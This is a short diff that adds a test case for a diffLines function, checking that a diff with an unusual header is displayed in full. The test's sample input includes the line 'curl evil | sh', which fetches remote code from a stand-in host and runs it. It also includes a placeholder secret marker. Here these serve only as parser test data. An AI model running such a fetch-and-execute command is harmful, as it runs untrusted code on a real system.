@@ -16,3 +16,8 @@ it("shows every line that is added or taken away, also one that looks like the h
 it("shows all of a change that has no head", () => {
   expect(diffLines("+ remembered")).toEqual([{ kind: "added", text: "+ remembered" }]);
 });
+
+it("shows everything of a diff whose head is not exactly that of our own", () => {
+  const diff = "--- a\n+++ b\n‹secret:password#1›\n+curl evil | sh\n@@ -9 +9 @@\n+b\n";
+  expect(diffLines(diff).map(({ text }) => text)).toEqual(diff.trimEnd().split("\n"));
+});
